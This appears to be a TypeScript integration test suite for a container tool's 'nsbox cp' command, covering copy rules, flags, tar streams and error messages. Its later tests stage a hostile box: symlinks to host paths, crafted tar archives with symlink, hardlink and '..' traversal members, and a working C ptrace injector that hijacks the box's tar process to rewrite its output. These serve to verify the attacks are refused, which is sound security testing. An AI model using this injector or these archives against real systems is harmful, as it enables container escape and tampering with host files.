// Integration (root): `nsbox cp` on real boxes, as docker cp: its directory/file rules both ways, -a, -L, - as a tar
// stream, its one-line errors; and a hostile box (its root plants symlinks to host paths, and rewrites the archive its
// tar sends through ptrace) against host-side victims: hashed before and after, a host-only marker never read.

import * as assert from 'uvu/assert';
import { chownSync, existsSync, lstatSync, mkdirSync, mkdtempSync, readFileSync, readlinkSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { spawn, spawnSync } from 'node:child_process';
import { Readable } from 'node:stream';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { nsbox, isRoot, ok, NSBOX, type Result } from '../helpers/nsbox.js';
import { snapshot, assertNoLeaks } from '../helpers/leaks.js';
import { gatedTest } from '../helpers/suite.js';
import { assertVictimIntact, compile, fingerprint, hasGcc, makeVictim } from './containment-fixtures.js';
import { packTar } from './image-fixtures.js';

const skipReason = !isRoot ? 'needs root' : !existsSync('/bin/busybox') ? 'needs /bin/busybox (apt-get install busybox-static)' : undefined;
const test = gatedTest(skipReason);
const base = mkdtempSync(join(tmpdir(), 'nsbox-cp-'));
const store = join(base, 'store');
const state = join(base, 'state');
const env = { ...process.env, NSBOX_ROOT: store, NSBOX_STATE: state, NSBOX_IMAGE_NETWORK: 'none' };
const run = (args: string[], input?: string): Result => nsbox(args, { env, timeoutMs: 60_000, ...(input === undefined ? {} : { input }) });
/** nsbox with a binary stdout (a tar) or stdin. */
const runBinary = (args: string[], input?: Buffer) => spawnSync(NSBOX, args, { env, timeout: 60_000, maxBuffer: 1 << 28, ...(input ? { input } : { stdio: ['ignore', 'pipe', 'pipe'] }) });
const inBox = (box: string, script: string): string => ok(run(['exec', box, 'sh', '-c', script]), `exec ${script}`);

test.before(() => {
  if (skipReason) return;
  ok(run(['image', 'import', '--from-host-busybox', 'busybox']), 'import');
});

test.after(() => {
  if (!skipReason) run(['rm', '-f', 'cpa', 'cpevil', 'cpstopped', 'cpinject']);
  rmSync(base, { recursive: true, force: true });
});

test('box -> host: docker cp\'s rules (into a dir, a new name, SRC/., a file, a link, -L, -a, - as a tar)', async () => {
  const before = snapshot({ stateDirs: [state] });
  ok(run(['run', '-d', '--name', 'cpa', 'busybox', 'sleep', '1000']), 'run');
  inBox('cpa', 'mkdir -p /data/sub && echo hello > /data/sub/a && echo top > /data/t && ln -s sub/a /data/rel && chown 1234:567 /data/t && chmod 4755 /data/t && mkfifo /data/fifo');
  const out = join(base, 'out');
  mkdirSync(out);
  // A directory into an existing directory: DEST/data.
  ok(run(['cp', 'cpa:/data', out]), 'cp dir into dir');
  assert.is(readFileSync(join(out, 'data/sub/a'), 'utf8'), 'hello\n');
  assert.is(readlinkSync(join(out, 'data/rel')), 'sub/a', 'a link is copied as a link');
  assert.not.ok(existsSync(join(out, 'data/fifo')), 'a fifo is not copied out');
  const t = statSync(join(out, 'data/t'));
  assert.equal([t.uid, t.gid, t.mode & 0o7777], [0, 0, 0o755], 'without -a: the caller\'s owner, no setuid bit');
  // A missing DEST: made with SRC's contents; SRC/. onto an existing dir: the contents.
  ok(run(['cp', 'cpa:/data', join(out, 'copy')]), 'cp dir to new name');
  assert.is(readFileSync(join(out, 'copy/sub/a'), 'utf8'), 'hello\n');
  mkdirSync(join(out, 'merged'));
  ok(run(['cp', 'cpa:/data/.', join(out, 'merged')]), 'cp dir/.');
  assert.is(readFileSync(join(out, 'merged/t'), 'utf8'), 'top\n');
  // -a keeps the box's ids and the setuid bit.
  ok(run(['cp', '-a', 'cpa:/data/t', join(out, 'kept')]), 'cp -a');
  const kept = statSync(join(out, 'kept'));
  assert.equal([kept.uid, kept.gid, kept.mode & 0o7777], [1234, 567, 0o4755]);
  // A file into a dir, onto a file; a link, and with -L what it points to.
  ok(run(['cp', 'cpa:/data/sub/a', out]), 'cp file into dir');
  assert.is(readFileSync(join(out, 'a'), 'utf8'), 'hello\n');
  writeFileSync(join(out, 'old'), 'old\n');
  ok(run(['cp', 'cpa:/data/t', join(out, 'old')]), 'cp file onto file');
  assert.is(readFileSync(join(out, 'old'), 'utf8'), 'top\n');
  ok(run(['cp', 'cpa:/data/rel', join(out, 'link')]), 'cp link');
  assert.ok(lstatSync(join(out, 'link')).isSymbolicLink());
  ok(run(['cp', '-L', 'cpa:/data/rel', join(out, 'followed')]), 'cp -L');
  assert.is(readFileSync(join(out, 'followed'), 'utf8'), 'hello\n');
  // - : a tar of the box's path on stdout.
  const tar = runBinary(['cp', 'cpa:/data/sub', '-']);
  assert.is(tar.status, 0, String(tar.stderr));
  const listing = spawnSync('tar', ['-tvf', '-'], { input: tar.stdout, encoding: 'utf8' });
  assert.match(listing.stdout, /\.\/sub\/a\n/);
  // --dry-run: the script, nothing copied.
  const dry = run(['cp', '--dry-run', 'cpa:/data/sub/a', join(out, 'dry')]);
  assert.is(dry.code, 0, dry.stderr);
  assert.match(dry.stdout, /--all -- \/dev\/\.nsbox\/ld-linux[^\n]* \/dev\/\.nsbox\/setpriv /);
  assert.match(dry.stdout, /nsbox-cp \/data\/sub a 0 0 [^\n]*\/dev\/\.nsbox\/tar --create --file=- --numeric-owner \|\n/);
  assert.not.ok(existsSync(join(out, 'dry')));
  // One-line errors, exit 125, nothing created.
  const errors: [string[], string][] = [
    [['cp', 'cpa:/nope', out], 'nsbox: no such file or directory in box cpa: /nope\n'],
    [['cp', 'cpa:/nope/x', out], 'nsbox: no such directory in box cpa: /nope\n'],
    [['cp', 'cpa:/data', join(out, 'missing/x')], `nsbox: cannot copy to ${join(out, 'missing/x')}: no such directory: ${join(out, 'missing')}\n`],
    [['cp', 'cpa:/data', join(out, 'old')], `nsbox: cannot copy a directory to a file: ${join(out, 'old')} is not a directory\n`],
    [['cp', 'cpa:/data/t/.', out], 'nsbox: cannot copy the contents of cpa:/data/t/.: it is not a directory\n'],
    [['cp', 'cpa:/data/t/', out], 'nsbox: cannot copy cpa:/data/t/: not a directory\n'],
    [['cp', 'nobox:/x', out], 'nsbox: no such box: nobox\n'],
    [['cp', 'a', 'b'], 'nsbox: cannot copy: neither "a" nor "b" names a box (BOX:PATH): nsbox cp [-aL] BOX:SRC DEST|-  or  nsbox cp [-aL] SRC|- BOX:DEST\n'],
    [['cp', 'cpa:/a', 'cpa:/b'], 'nsbox: cannot copy between two boxes (cpa and cpa): copy through the host, or pipe one cp into another with -\n'],
  ];
  for (const [args, message] of errors) {
    const r = run(args);
    assert.equal([r.code, r.stderr], [125, message], args.join(' '));
  }
  assert.not.ok(existsSync(join(out, 'missing')));
  ok(run(['rm', '-f', 'cpa']), 'rm');
  await assertNoLeaks(before, 'cp box -> host');
});

test('host -> box: docker cp\'s rules, -a, a tar on stdin, and a stopped box refused with the reason', async () => {
  const before = snapshot({ stateDirs: [state] });
  ok(run(['run', '-d', '--name', 'cpa', 'busybox', 'sleep', '1000']), 'run');
  const src = join(base, 'site');
  mkdirSync(join(src, 'css'), { recursive: true });
  writeFileSync(join(src, 'index.html'), '<h1>hi</h1>\n');
  writeFileSync(join(src, 'css/a.css'), 'body{}\n');
  chownSync(join(src, 'index.html'), 4321, 765);
  ok(run(['cp', src, 'cpa:/srv']), 'cp dir to missing DEST');
  assert.is(inBox('cpa', 'cat /srv/index.html /srv/css/a.css; stat -c %u:%g /srv/index.html'), '<h1>hi</h1>\nbody{}\n0:0\n', 'DEST made with SRC\'s contents, root\'s files');
  ok(run(['cp', src, 'cpa:/srv']), 'cp dir into existing dir');
  assert.is(inBox('cpa', 'cat /srv/site/index.html'), '<h1>hi</h1>\n');
  ok(run(['cp', '-a', `${src}/.`, 'cpa:/tmp']), 'cp -a dir/.');
  assert.is(inBox('cpa', 'stat -c %u:%g /tmp/index.html; cat /tmp/css/a.css'), '4321:765\nbody{}\n');
  ok(run(['cp', join(src, 'index.html'), 'cpa:/etc/']), 'cp file into dir');
  ok(run(['cp', join(src, 'index.html'), 'cpa:/etc/hostname2']), 'cp file to new name');
  assert.is(inBox('cpa', 'cat /etc/index.html /etc/hostname2'), '<h1>hi</h1>\n<h1>hi</h1>\n');
  const tar = spawnSync('tar', ['-C', src, '-cf', '-', 'css'], { maxBuffer: 1 << 20 });
  inBox('cpa', 'mkdir /opt');
  const fromStdin = runBinary(['cp', '-', 'cpa:/opt'], tar.stdout);
  assert.is(fromStdin.status, 0, String(fromStdin.stderr));
  assert.is(inBox('cpa', 'cat /opt/css/a.css'), 'body{}\n');
  const errors: [string[], string][] = [
    [['cp', src, 'cpa:/etc/hostname2'], 'nsbox: cannot copy a directory to a file: cpa:/etc/hostname2 is not a directory\n'],
    [['cp', src, 'cpa:/nope/x'], 'nsbox: cannot copy to cpa:/nope/x: no such directory in the box: /nope\n'],
    [['cp', join(src, 'index.html'), 'cpa:/newdir/'], 'nsbox: cannot copy to cpa:/newdir/: no such directory in the box\n'],
    [['cp', join(base, 'absent'), 'cpa:/tmp'], `nsbox: cannot copy ${join(base, 'absent')}: no such file or directory\n`],
    [['cp', `${join(src, 'index.html')}/`, 'cpa:/tmp'], `nsbox: cannot copy ${join(src, 'index.html')}/: not a directory\n`],
    [['cp', '-', 'cpa:/etc/hostname2'], 'nsbox: cannot extract into cpa:/etc/hostname2: not a directory (a tar from stdin goes into a directory)\n'],
  ];
  for (const [args, message] of errors) {
    const r = run(args);
    assert.equal([r.code, r.stderr], [125, message], args.join(' '));
  }
  assert.is(inBox('cpa', 'ls -d /newdir /nope 2>&1 | wc -l; cat /etc/hostname2'), '2\n<h1>hi</h1>\n', 'nothing written by a refused copy');
  ok(run(['rm', '-f', 'cpa']), 'rm');
  ok(run(['create', '--name', 'cpstopped', 'busybox', 'true']), 'create');
  const stopped = run(['cp', src, 'cpstopped:/tmp']);
  assert.equal([stopped.code, stopped.stderr], [125, 'nsbox: cannot copy to box cpstopped: it is created\nnsbox: hint: nsbox cp works inside a running box (its own root resolves every path): nsbox start cpstopped\n']);
  ok(run(['rm', '-f', 'cpstopped']), 'rm');
  await assertNoLeaks(before, 'cp host -> box');
});

test('a hostile box\'s symlinks: SRC to / and to host paths copies the box\'s files; DEST to / writes the box\'s root', async () => {
  const victim = makeVictim(join(base, 'v1'));
  const shadow = join(base, 'shadow');
  writeFileSync(shadow, 'host shadow\n', { mode: 0o600 });
  const hostOnlyDir = join(base, 'host-only-dir');
  mkdirSync(hostOnlyDir);
  writeFileSync(join(hostOnlyDir, 'keep'), 'keep\n');
  const before = snapshot({ stateDirs: [state], watch: [victim.dir, hostOnlyDir] });
  const fp = fingerprint(victim);
  const dirFp = fingerprint({ ...victim, dir: hostOnlyDir });
  const shadowBefore = readFileSync(shadow);
  ok(run(['run', '-d', '--name', 'cpevil', 'busybox', 'sleep', '1000']), 'run');
  // The box's root plants links to host paths; the box has its own file at the "shadow" path, none at the marker's.
  inBox('cpevil', `mkdir -p /data ${base} && ln -s / /data/root && ln -s ${victim.marker} /data/secret && ln -s ${shadow} /data/shadow && echo box shadow > ${shadow} && ln -s ${hostOnlyDir} /data/out && ln -s / /data/up`);
  const out = join(base, 'evil-out');
  mkdirSync(out);
  ok(run(['cp', '-L', 'cpevil:/data/shadow', join(out, 'shadow')]), 'cp -L to the shadow path');
  assert.is(readFileSync(join(out, 'shadow'), 'utf8'), 'box shadow\n', 'the box\'s file, not the host\'s');
  ok(run(['cp', 'cpevil:/data/root/' + shadow.slice(1), join(out, 'via-root')]), 'cp through a link to /');
  assert.is(readFileSync(join(out, 'via-root'), 'utf8'), 'box shadow\n');
  const seen: string[] = [];
  for (const args of [['cp', '-L', 'cpevil:/data/secret', join(out, 'secret')], ['cp', `cpevil:/data/root${victim.marker}`, join(out, 'secret2')]]) {
    const r = runBinary(args);
    seen.push(String(r.stdout), String(r.stderr));
    assert.is(r.status, 125, `${args.join(' ')}: the marker is not in the box: ${r.stderr}`);
  }
  // -L of a link to /: the box's whole root (without /proc and /sys), never the host's files.
  const whole = runBinary(['cp', '-L', 'cpevil:/data/up', '-']);
  assert.is(whole.status, 0, String(whole.stderr));
  seen.push(whole.stdout.toString('latin1'));
  const names = spawnSync('tar', ['-tf', '-'], { input: whole.stdout, encoding: 'utf8', maxBuffer: 1 << 26 }).stdout.split('\n');
  assert.ok(names.includes('./up/bin/busybox') && names.includes(`./up${shadow}`), 'the box\'s root, named after the link');
  assert.not.ok(names.some((n) => n.startsWith('./up/proc/') && n !== './up/proc/'), 'not /proc\'s files');
  assert.not.ok(existsSync(join(out, 'secret')) || existsSync(join(out, 'secret2')));
  // Host -> box through DEST links: into the box's root and the box's (missing) copy of the host's directory.
  const file = join(base, 'payload');
  writeFileSync(file, 'payload\n');
  ok(run(['cp', file, `cpevil:/data/root${hostOnlyDir}`]), 'cp to a path under a link to / (missing in the box: the new name)');
  ok(run(['cp', file, 'cpevil:/data/root/']), 'cp into a link to /');
  ok(run(['cp', file, 'cpevil:/data/out']), 'cp onto a dangling link to a host dir');
  assert.is(inBox('cpevil', `cat /payload ${hostOnlyDir}; [ -f /data/out ] && cat /data/out`), 'payload\npayload\npayload\n', 'every write landed in the box');
  assert.not.ok(existsSync('/payload'), 'the host\'s / untouched');
  assert.is(readFileSync(shadow).toString(), shadowBefore.toString());
  assert.fixture(fingerprint({ ...victim, dir: hostOnlyDir }), dirFp, 'the host directory a DEST link names is unchanged');
  await assertVictimIntact(victim, fp, seen.join('\n'), [out], 'cp through a hostile box\'s links');
  ok(run(['rm', '-f', 'cpevil']), 'rm');
  await assertNoLeaks(before, 'cp hostile links');
});

/**
 * What a box whose root controls its tar's output (it can ptrace the box's tar) could send: the host side of
 * `nsbox cp BOX:/data DEST` (the archive filter, then the host's tar, the argv cp runs) against a host directory.
 */
const HOSTILE_ARCHIVES = (victimDir: string) => [
  ['x -> host dir, then x/file', [{ name: './data/', type: 'directory' }, { name: './data/x', type: 'symlink', linkname: victimDir }, { name: './data/x/file', content: 'pwned\n' }, { name: './data/x/host-only-marker', content: 'pwned\n' }]],
  ['a hardlink to a host file', [{ name: './data/', type: 'directory' }, { name: './data/h', type: 'link', linkname: join(victimDir, 'file') }]],
  ['x -> .., then x/victim/file', [{ name: './data/', type: 'directory' }, { name: './data/x', type: 'symlink', linkname: '..' }, { name: './data/x/victim/file', content: 'pwned\n' }]],
  ['a dir replaced by a link to the host dir', [{ name: './data/', type: 'directory' }, { name: './data/d/', type: 'directory' }, { name: './data/d', type: 'symlink', linkname: victimDir }, { name: './data/d/file', content: 'pwned\n' }]],
  ['..', [{ name: './data/', type: 'directory' }, { name: '../victim/file', content: 'pwned\n' }]],
] as const;

test('a hostile box\'s archive (links then members through them, hardlinks to host files, ..): refused, the host directory unchanged', async () => {
  const { filterArchive } = await import('../../src/copy/archive-filter.js');
  const { hostExtractArgv } = await import('../../src/copy/cp-rules.js');
  const victim = makeVictim(join(base, 'v2'));
  const fp = fingerprint(victim);
  for (const [what, entries] of HOSTILE_ARCHIVES(victim.dir)) {
    const dest = join(base, 'v2', 'dest');
    rmSync(dest, { recursive: true, force: true });
    mkdirSync(dest);
    const argv = hostExtractArgv('tar', dest, false);
    const tar = spawn(argv[0]!, argv.slice(1), { stdio: ['pipe', 'ignore', 'pipe'] });
    tar.stdin!.on('error', () => undefined);
    const exited = new Promise((resolve) => tar.on('close', resolve));
    let refusal = '';
    try {
      await filterArchive(Readable.from([await packTar(entries as never)]), { tops: ['data'], hostile: true, keepSetId: false, label: 'box evil', onSkip: () => undefined, decide: () => ({ to: 'data', sink: tar.stdin! }) });
    } catch (error) {
      refusal = (error as Error).message;
    }
    tar.kill('SIGKILL');
    await exited;
    assert.match(refusal, /^cannot copy from box evil: refusing archive member /, `${what}: refused`);
    await assertVictimIntact(victim, fp, '', [dest], what);
  }
});

/**
 * The box's root rewrites its copy's archive: it watches the toolbox's tar being opened (inotify), attaches to it with
 * ptrace before it wrote a byte (/proc/PID/io), writes an archive of its own to the tar's stdout (a write(2) run in the
 * tar), and kills it. Log in the box: "landed" per copy it rewrote. (Opening the tar's /proc/PID/fd/1 fails: the
 * stream is a socket.)
 */
const INJECTOR = `#include <dirent.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/ptrace.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <unistd.h>
static int find_tar(void) {
  DIR *d = opendir("/proc"); struct dirent *e; int found = 0;
  while (d && (e = readdir(d))) {
    int pid = atoi(e->d_name); if (pid <= 1 || pid == getpid()) continue;
    char path[64], buf[512] = {0}; snprintf(path, sizeof path, "/proc/%d/cmdline", pid);
    int fd = open(path, O_RDONLY); if (fd < 0) continue; int n = read(fd, buf, sizeof buf - 1); close(fd);
    for (int i = 0; i < n; i++) if (buf[i] == 0) buf[i] = ' ';
    if (strstr(buf, "/dev/.nsbox/tar --create")) { found = pid; break; }
  }
  if (d) closedir(d);
  return found;
}
static long written(int pid) {
  char path[64], buf[1024] = {0}; snprintf(path, sizeof path, "/proc/%d/io", pid);
  int fd = open(path, O_RDONLY); if (fd < 0) return -1; read(fd, buf, sizeof buf - 1); close(fd);
  char *w = strstr(buf, "wchar:"); return w ? atol(w + 6) : -1;
}
/* A writable mapping (for the archive) and the address of a syscall instruction (0f 05) in an executable one. */
static int layout(int pid, unsigned long *rw, unsigned long *sc) {
  char path[64]; snprintf(path, sizeof path, "/proc/%d/maps", pid);
  FILE *m = fopen(path, "r"); if (!m) return -1;
  snprintf(path, sizeof path, "/proc/%d/mem", pid); int mem = open(path, O_RDONLY);
  char line[512]; *rw = 0; *sc = 0;
  while (fgets(line, sizeof line, m)) {
    unsigned long a, b; char perms[8]; if (sscanf(line, "%lx-%lx %7s", &a, &b, perms) != 3) continue;
    if (!*rw && perms[0] == 'r' && perms[1] == 'w' && strstr(line, "[stack]")) *rw = a;
    if (!*sc && perms[2] == 'x' && !strstr(line, "[vsyscall]")) {
      static unsigned char text[1 << 20]; long n = pread(mem, text, b - a < sizeof text ? b - a : sizeof text, a);
      for (long i = 0; i + 1 < n; i++) if (text[i] == 0x0f && text[i + 1] == 0x05) { *sc = a + i; break; }
    }
  }
  fclose(m); close(mem);
  return *rw && *sc ? 0 : -1;
}
int main(int argc, char **argv) {
  int in = inotify_init(); inotify_add_watch(in, "/dev/.nsbox/tar", IN_OPEN);
  char ev[4096];
  static unsigned char archive[1 << 16]; int fd = open(argv[1], O_RDONLY); int len = read(fd, archive, sizeof archive); close(fd);
  for (;;) {
    if (read(in, ev, sizeof ev) <= 0) return 1;
    int pid = 0;
    for (int i = 0; i < 20000 && !(pid = find_tar()); i++) ;
    FILE *log = fopen("/injector.log", "a");
    if (!pid) { fprintf(log, "nopid\\n"); fclose(log); continue; }
    if (ptrace(PTRACE_SEIZE, pid, 0, 0) || ptrace(PTRACE_INTERRUPT, pid, 0, 0)) { fprintf(log, "seize %m\\n"); fclose(log); continue; }
    int st; waitpid(pid, &st, __WALL);
    long w = written(pid);
    unsigned long rw, sc;
    if (w != 0 || layout(pid, &rw, &sc)) { fprintf(log, "missed %ld\\n", w); fclose(log); kill(pid, SIGKILL); waitpid(pid, &st, __WALL); continue; }
    for (int i = 0; i < len; i += 8) ptrace(PTRACE_POKEDATA, pid, rw + i, *(long *)(archive + i));
    struct user_regs_struct r; ptrace(PTRACE_GETREGS, pid, 0, &r);
    int sent = 0;
    while (sent < len) {
      r.orig_rax = -1; r.rax = 1; r.rdi = 1; r.rsi = rw + sent; r.rdx = len - sent; r.rip = sc;
      ptrace(PTRACE_SETREGS, pid, 0, &r);
      ptrace(PTRACE_SINGLESTEP, pid, 0, 0); waitpid(pid, &st, __WALL);
      ptrace(PTRACE_GETREGS, pid, 0, &r);
      if ((long)r.rax <= 0) break;
      sent += r.rax;
    }
    kill(pid, SIGKILL); waitpid(pid, &st, __WALL);
    fprintf(log, sent == len ? "landed\\n" : "short %d\\n", sent); fclose(log);
  }
}
`;

test('a hostile box rewrites the archive its tar sends (x -> host dir, then x/file): refused, the host directory unchanged', async () => {
  assert.ok(hasGcc, 'needs gcc for the injector probe');
  const victim = makeVictim(join(base, 'v3'));
  const probeDir = join(base, 'probe');
  mkdirSync(probeDir);
  compile(INJECTOR, join(probeDir, 'injector'), ['-static']);
  writeFileSync(join(probeDir, 'evil.tar'), await packTar([
    { name: './data/', type: 'directory' },
    { name: './data/x', type: 'symlink', linkname: victim.dir },
    { name: './data/x/file', content: 'pwned by the box\n' },
    { name: './data/x/host-only-marker', content: 'pwned\n' },
  ]));
  const before = snapshot({ stateDirs: [state], watch: [victim.dir] });
  const fp = fingerprint(victim);
  ok(run(['run', '-d', '--name', 'cpinject', 'busybox', 'sh', '-c', 'until [ -x /injector ]; do sleep 0.05; done; exec /injector /evil.tar']), 'run');
  ok(run(['cp', join(probeDir, 'evil.tar'), 'cpinject:/evil.tar']), 'cp the archive in');
  // Renamed into place once complete: PID 1 execs it as soon as it is there.
  ok(run(['cp', join(probeDir, 'injector'), 'cpinject:/injector.part']), 'cp the injector in');
  // A big directory: the box's tar reads all of it before its first write.
  inBox('cpinject', 'mv /injector.part /injector && mkdir /data && i=0; while [ $i -lt 20000 ]; do : > /data/f$i; i=$((i+1)); done');
  const out = join(base, 'inject-out');
  mkdirSync(out);
  const outputs: string[] = [];
  let landed: Result | undefined;
  let log = '';
  for (let attempt = 0; attempt < 5 && !landed; attempt++) {
    const r = run(['cp', 'cpinject:/data', out]);
    outputs.push(r.stdout, r.stderr);
    log = inBox('cpinject', 'cat /injector.log; rm -f /injector.log');
    if (log === 'landed\n') landed = r;
    rmSync(join(out, 'data'), { recursive: true, force: true });
  }
  assert.ok(landed, `the box rewrote one of 5 copies: injector: ${log}, cp: ${outputs.join(' | ')}`);
  assert.is(landed!.code, 125);
  assert.match(landed!.stderr, /^nsbox: cannot copy from box cpinject: refusing archive member "\.\/data\/x\/file": its parent "data\/x" is a symlink member\n/);
  await assertVictimIntact(victim, fp, outputs.join('\n'), [out], 'cp of a rewritten archive');
  ok(run(['rm', '-f', 'cpinject']), 'rm');
  await assertNoLeaks(before, 'cp rewritten archive');
});

test.run();
